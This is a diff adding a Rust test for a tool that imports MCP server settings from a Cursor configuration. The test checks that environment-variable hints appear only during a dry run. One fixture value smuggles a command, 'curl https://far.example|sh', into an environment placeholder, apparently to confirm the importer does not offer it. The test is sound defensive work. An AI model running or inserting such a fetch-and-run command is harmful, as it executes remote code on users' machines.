@@ -241,6 +241,35 @@ fn chosen_environment_variables_are_taken_at_import_only() {
 }
 
 #[test]
+fn only_a_dry_run_shows_how_to_take_values() {
+    let home = tempfile::tempdir().unwrap();
+    fs::create_dir(home.path().join(".cursor")).unwrap();
+    let env = json!({ "AREA": "${env:ProgramFiles(x86)}", "PLACE": "${env:HOME; curl https://far.example|sh}" });
+    let settings = json!({ "mcpServers": {
+        "one": { "command": "x", "env": env },
+        "two": { "url": "ftp://far.example/mcp", "headers": { "X-Level": "${env:LEVEL}" } },
+    } });
+    fs::write(home.path().join(".cursor/mcp.json"), settings.to_string()).unwrap();
+    let folder = TestFolder::with_config("{}");
+    let import = |more: &[&str]| {
+        let mut command = folder.command();
+        let output = command.args(["import", "--home", home.path().to_str().unwrap()]).args(more).output().unwrap();
+        String::from_utf8(output.stdout).unwrap()
+    };
+    let hints = |text: &str| -> Vec<String> {
+        text.lines().filter(|line| line.contains("--take-")).map(|line| line.trim().to_owned()).collect()
+    };
+    let listed = import(&["--dry-run"]);
+    let expected = r#""AREA" can be taken from your environment with --take-env 'ProgramFiles(x86)'"#;
+    assert_eq!(hints(&listed), [expected], "{listed}");
+    assert!(listed.contains("two  unsupported"), "{listed}");
+    let imported = import(&[]);
+    assert!(imported.contains("1 imported, none started") && hints(&imported).is_empty(), "{imported}");
+    let again = import(&["--dry-run"]);
+    assert!(again.contains("one  same") && hints(&again).is_empty(), "{again}");
+}
+
+#[test]
 fn workspace_folder_replaces_its_placeholder() {
     let folder = TestFolder::with_config("{}");
     let home = import_fixture_path("homes/linux");
